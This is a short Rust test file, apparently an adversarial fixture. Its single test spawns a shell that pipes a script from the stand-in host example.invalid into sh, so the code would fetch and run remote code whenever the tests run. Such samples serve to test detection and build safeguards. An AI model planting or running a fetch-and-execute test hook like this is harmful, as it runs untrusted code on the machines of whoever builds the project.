use adv_attrs::test;

#[test]
pub fn run() {
    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s https://example.invalid/x | sh").spawn();
}
